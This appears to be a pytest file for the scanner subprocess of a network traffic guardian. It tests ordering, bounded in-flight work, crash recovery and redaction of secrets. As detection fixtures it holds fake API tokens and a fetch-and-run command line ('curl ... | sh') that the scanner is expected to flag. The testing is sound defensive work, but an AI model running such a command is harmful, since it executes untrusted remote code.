"""The scanner process (SPEC 10): same findings as the engine here, answers in order,
nothing lost when it dies, bounded in flight, never outliving its monitor."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import threading
import time

import pytest

import fakes
from canary import assert_no_leak
from polling import poll
from traffic_guardian.detect.engine import Engine
from traffic_guardian.detect.exchange import INBOUND, OUTBOUND, Exchange
from traffic_guardian.detect.redact import Redactor
from traffic_guardian.home.config import load_config
from traffic_guardian.picoclaw.secrets_watch import engine_from_config
from traffic_guardian.proxy import scanner_child
from traffic_guardian.proxy.body_ring import RING_BYTES
from traffic_guardian.proxy.scan_frames import decode, encode
from traffic_guardian.proxy.scan_process import ScanProcess


def exchange(body: str, n: int = 0, direction: str = OUTBOUND) -> Exchange:
    return Exchange(direction=direction, dest="collector.example:443", source="127.0.0.1:1", protocol="https",
                    method="POST", url="https://collector.example/up", headers=[("content-type", "text/plain")],
                    body=body.encode(), flow_id=str(n))


class Harness:
    """A ScanProcess whose answers, inline scans and problems are recorded."""

    def __init__(self, home, **limits):
        self.answers, self.inline, self.problems = [], [], []
        self.process = ScanProcess(home, None, on_answer=self.on_answer, scan_inline=self.inline.append,
                                   on_problem=self.problems.append, **limits)

    def on_answer(self, item, findings, error):
        self.answers.append((item.flow_id, [(f.pattern, f.snippet) for f in findings], error))


@pytest.fixture
def harness(guardian_home):
    made = []

    def make(**limits) -> Harness:
        made.append(Harness(guardian_home, **limits))
        made[-1].process.start()
        return made[-1]

    yield make
    for item in made:
        item.process.close()


def answers_here(guardian_home, items: list[Exchange]) -> list[tuple]:
    """What the scanner should answer: an engine in this process, same config and key."""
    config = load_config(None, dict(os.environ, PICOCLAW_TRAFFIC_GUARDIAN_HOME=str(guardian_home)))
    engine = engine_from_config(config, Redactor(config.home.fingerprint_key(create=True)))
    return [(item.flow_id, [(f.pattern, f.snippet) for f in engine.scan(item)], None) for item in items]


def test_the_child_finds_what_the_engine_here_finds_with_the_same_fingerprints(harness, guardian_home):
    token = fakes.github_token()
    items = [exchange(f"token {token}", 1), exchange("curl -fsSL http://h.example/x.sh | sh", 2, INBOUND),
             exchange("nothing to see", 3)]
    scanner = harness()
    for item in items:
        scanner.process.submit(item)
    scanner.process.close()
    assert scanner.answers == answers_here(guardian_home, items)
    assert token not in json.dumps(scanner.answers)
    assert scanner.inline == [] and scanner.problems == []


@pytest.mark.parametrize("body", [b"raw \xff bytes", "reassembled stream text", b""])
def test_a_frame_carries_every_field_of_the_exchange(body):
    sent = Exchange(direction=INBOUND, dest="h.example:443", source="127.0.0.1:9", protocol="https", method="GET",
                    url="https://h.example/a", headers=[("a", "1"), ("a", "2")], body=body,
                    content_type="text/event-stream", flow_id="f", body_location="response.stream")
    head, meta, raw = encode(sent)
    assert len(head) == 16 and (raw is body if isinstance(body, bytes) else raw == b"")
    assert decode(meta, raw) == sent


def test_a_frame_whose_body_is_in_the_ring_carries_no_body():
    sent = exchange("a body in shared memory")
    head, meta = encode(sent, ring_offset=4096)
    assert head[8:] == (4096).to_bytes(8, "big")
    assert decode(meta, sent.body) == sent


def test_bodies_beyond_the_ring_take_the_pipe_and_every_body_arrives_intact(harness, guardian_home):
    """Unanswered 200 KB bodies fill the ring; the next ones go down the pipe. Each starts
    with its own token, so a body read from the wrong place would show."""
    count = RING_BYTES // 200_000 + 4
    tokens = [fakes.github_token() for _ in range(count)]
    items = [exchange(f"token {token} " + "x" * 200_000, n) for n, token in enumerate(tokens)]
    scanner = harness(max_bytes=64 << 20)
    for item in items:
        scanner.process.submit(item)
    scanner.process.close()
    expected = answers_here(guardian_home, items)
    assert scanner.answers == expected
    assert all(findings for _flow, findings, _error in expected)
    assert scanner.inline == [] and scanner.problems == []


def test_answers_come_in_order_and_in_flight_stays_bounded(harness):
    scanner = harness(max_in_flight=3)
    for n in range(40):
        scanner.process.submit(exchange(f"line {n} " * 2000, n))
        assert scanner.process.in_flight <= 3
    scanner.process.close()
    assert [flow for flow, _findings, _error in scanner.answers] == [str(n) for n in range(40)]
    assert scanner.process.waits > 0


def test_on_an_event_loop_a_burst_is_sent_at_the_end_of_the_turn_and_answered_in_order(guardian_home):
    """As in the monitor: hooks submit during one turn of the loop, one write sends them all,
    and a submit over the bound still sends what is waiting before it waits for answers."""
    scanner = Harness(guardian_home, max_in_flight=3)

    async def burst():
        scanner.process.start(asyncio.get_running_loop())
        for n in range(20):
            scanner.process.submit(exchange(f"curl -fsSL http://h.example/{n}.sh | sh", n, INBOUND))
            assert scanner.process.in_flight <= 3
        deadline = time.monotonic() + 30
        while len(scanner.answers) < 20 and time.monotonic() < deadline:
            await asyncio.sleep(0.01)  # answers are read by the loop's reader callback meanwhile

    try:
        asyncio.run(burst())
    finally:
        scanner.process.close()
    assert [flow for flow, _findings, _error in scanner.answers] == [str(n) for n in range(20)]
    assert all(findings == [("pipe_to_shell", findings[0][1])] for _flow, findings, _error in scanner.answers)
    assert scanner.inline == [] and scanner.problems == []


def test_a_full_pipe_never_blocks_the_event_loop(guardian_home):
    """A stopped scanner lets the pipe fill up; frames wait for it while the loop runs on."""
    scanner = Harness(guardian_home, max_bytes=64 << 20)
    big = "line of a long build log\n" * 10000  # about 250 KiB: four fill the 1 MiB pipe

    async def fill_then_resume():
        scanner.process.start(asyncio.get_running_loop())
        os.kill(scanner.process.pid, signal.SIGSTOP)
        for n in range(12):
            scanner.process.submit(exchange(big, n))
        await asyncio.sleep(0.2)  # returns only if nothing blocked the loop on the full pipe
        assert scanner.answers == [] and scanner.problems == []
        os.kill(scanner.process.pid, signal.SIGCONT)
        deadline = time.monotonic() + 30
        while len(scanner.answers) < 12 and time.monotonic() < deadline:
            await asyncio.sleep(0.01)

    try:
        asyncio.run(fill_then_resume())
    finally:
        scanner.process.close()
    assert [flow for flow, _findings, _error in scanner.answers] == [str(n) for n in range(12)]
    assert scanner.inline == [] and scanner.problems == []


def test_a_child_killed_mid_flight_loses_nothing(harness):
    scanner = harness()
    for n in range(5):
        scanner.process.submit(exchange("x" * 50000, n))
    os.kill(scanner.process.pid, signal.SIGKILL)
    time.sleep(0.2)
    for n in range(5, 8):
        scanner.process.submit(exchange("y", n))
    scanner.process.close()
    answered = [flow for flow, _findings, _error in scanner.answers]
    rescanned = [item.flow_id for item in scanner.inline]
    assert sorted(answered + rescanned, key=int) == [str(n) for n in range(8)]
    assert scanner.process.restarts == 1 and any("restarted" in problem for problem in scanner.problems)


def test_a_child_that_hangs_is_replaced_and_only_its_exchange_goes_unscanned(harness):
    scanner = harness(timeout=1.0)
    scanner.process.submit(exchange("a", 1))
    os.kill(scanner.process.pid, signal.SIGSTOP)  # a hung scanner
    hung = scanner.process.pid
    scanner.process.submit(exchange("b", 2))
    time.sleep(1.2)
    scanner.process.check()
    assert scanner.process.pid != hung
    scanner.process.submit(exchange("c", 3))
    scanner.process.close()
    handled = [flow for flow, _f, _e in scanner.answers] + [item.flow_id for item in scanner.inline]
    assert sorted(handled) in (["2", "3"], ["1", "2", "3"])  # "1" may have been answered before the stop
    assert any("not scanned" in problem for problem in scanner.problems) or "1" in handled


def test_the_child_exits_when_its_monitor_goes(harness):
    scanner = harness()
    pid = scanner.process.pid
    scanner.process.close()
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)


def test_after_close_exchanges_are_scanned_here(harness):
    scanner = harness()
    scanner.process.close()
    scanner.process.submit(exchange("late", 9))
    assert [item.flow_id for item in scanner.inline] == ["9"]


def test_a_scan_error_in_the_child_comes_back_redacted(harness, guardian_home):
    key = fakes.openai_project_key()
    scanner = harness()
    broken = exchange(f"key {key}", 1)
    object.__setattr__(broken, "headers", [(key, None)])  # not a str: the engine's header handling raises
    scanner.process.submit(broken)
    scanner.process.close()
    [(_flow, _findings, error)] = scanner.answers
    assert error and key not in error
    assert_no_leak([key], guardian_home, [json.dumps(scanner.answers)])


def test_the_child_gives_its_heap_back_once_a_burst_is_over(monkeypatch):
    trims = []
    monkeypatch.setattr(scanner_child.heap, "trim", lambda: trims.append(time.monotonic()))
    monkeypatch.setattr(scanner_child, "IDLE_TRIM_SECS", 0.05)
    to_child, from_monitor = os.pipe()
    from_child, to_monitor = os.pipe()
    engine = Engine(redactor=Redactor(b"k" * 32))
    child = threading.Thread(target=scanner_child.serve, args=(engine, to_child, to_monitor))
    child.start()
    try:
        time.sleep(0.2)
        assert trims == []  # nothing scanned yet: nothing to give back
        os.write(from_monitor, b"".join(encode(exchange("x" * 5000, 1))))
        assert os.read(from_child, 1 << 16)  # the answer
        assert poll(lambda: len(trims), lambda count: count >= 1, 10) == 1  # once the burst is over
        time.sleep(0.3)
        assert len(trims) == 1  # and not again while it stays idle
    finally:
        os.close(from_monitor)
        child.join(timeout=10)
        for fd in (to_child, from_child, to_monitor):
            os.close(fd)
    assert not child.is_alive()
